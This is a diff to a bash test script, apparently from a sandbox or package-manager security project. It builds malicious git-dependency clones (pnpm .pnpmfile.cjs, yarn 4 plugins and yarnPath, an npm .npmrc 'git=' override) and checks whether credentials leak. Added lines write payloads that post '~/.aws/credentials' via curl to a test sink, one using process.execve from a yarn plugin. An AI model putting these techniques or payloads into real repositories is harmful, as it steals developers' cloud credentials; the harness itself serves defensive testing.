@@ -1,7 +1,7 @@
 #!/bin/bash
-# R58: settings in a git dependency's own repository that make the manager itself, working in the
-# clone, run code of it: pnpm's .pnpmfile.cjs, yarn 4's yarnPath and plugins. Programs that a plugin
-# starts are a limit (SECURITY.md). And what an honest clone depends on is fetched.
+# R58: files of a git dependency's own repository that make the manager, working in the clone, run
+# code of it: pnpm's .pnpmfile.cjs, yarn 4's yarnPath and plugins, npm's git. Programs that a plugin
+# starts are a limit (SECURITY.md). What an honest clone depends on is fetched.
 # vm: no (git, and downloads the managers)
 set -u
 cd "$(dirname "$0")/../.." || exit 2
@@ -28,6 +28,26 @@ clone_yarnpath() {
 clone_plugin() {
 	{ echo 'module.exports = { name: "p", factory: () => {'; steal plugin
 		echo 'return {}; } };'; } >evil.cjs
+	printf 'plugins:\n  - ./evil.cjs\n' >.yarnrc.yml
+	printf '__metadata:\n  version: 8\n' >yarn.lock
+}
+clone_npmrc() { # yarn starts npm in a clone with npm's lockfile, and npm what is to be its git
+	{ echo '#!/usr/bin/env node'; steal npmrc; } >git.js && chmod 755 git.js
+	echo 'git=./git.js' >.npmrc
+	echo '{"name":"clone-x","version":"1.0.0","scripts":{"prepare":"true"},
+		"devDependencies":{"inner":"git://127.0.0.1:9418/inner.git"}}' >package.json
+	echo '{"name":"clone-x","version":"1.0.0","lockfileVersion":3,"packages":{}}' \
+		>package-lock.json
+}
+clone_shell() { # the same, by a script of sh that starts a program
+	clone_npmrc
+	printf '#!/bin/sh\ncurl -s --data-binary @%s http://%s/shell\n' \
+		"$RT_HOME/.aws/credentials" "$RT_SINK" >git.js
+}
+clone_execve() { # node 22.15 and later; the manager's process becomes another program
+	printf 'module.exports = { name: "p", factory: () => { %s return {}; } };\n' \
+		"process.execve('/usr/bin/curl', ['curl', '-s', '--data-binary', \
+'@$RT_HOME/.aws/credentials', 'http://$RT_SINK/execve'], process.env);" >evil.cjs
 	printf 'plugins:\n  - ./evil.cjs\n' >.yarnrc.yml
 	printf '__metadata:\n  version: 8\n' >yarn.lock
 }
@@ -70,7 +90,13 @@ rt_setup() {
 		}' "$dir" "$LAB_REGISTRY" "$MANAGER")
 	chown -R "$LAB_UID:$LAB_GID" "$RT_PROJECT"
 }
-for row in ${ROWS:-pnpm10:pnpmfile yarn4:yarnpath yarn4:plugin yarn4:program}; do
+rows='pnpm10:pnpmfile npm:npmrc npm:shell yarn4:yarnpath yarn4:plugin yarn4:npmrc yarn4:program'
+if node -e 'process.exit(!process.execve)'; then
+	rows+=' yarn4:execve'
+else
+	echo '# yarn4:execve left out: this node has no process.execve'
+fi
+for row in ${ROWS:-$rows}; do
 	MANAGER=${row%:*} KIND=${row#*:}
 	managers_have "$MANAGER" || { echo "# $row left out: unavailable"; continue; }
 	bin=$MANAGERS/$MANAGER/node_modules/.bin
@@ -79,7 +105,11 @@ for row in ${ROWS:-pnpm10:pnpmfile yarn4:yarnpath yarn4:plugin yarn4:program}; d
 		RT_COMMAND=("$bin/pnpm" install --no-frozen-lockfile)
 		RT_ENV=(PATH="$bin:$LAB_PATH")
 		;;
-	yarn4) RT_COMMAND=("$bin/yarn" install) RT_ENV=(YARN_ENABLE_IMMUTABLE_INSTALLS=false) ;;
+	npm) RT_COMMAND=(npm install) RT_ENV=() ;;
+	yarn4)
+		RT_COMMAND=("$bin/yarn" install)
+		RT_ENV=(YARN_ENABLE_IMMUTABLE_INSTALLS=false)
+		;;
 	esac
 	rt_control "$KIND"
 	rt_leaked .aws/credentials
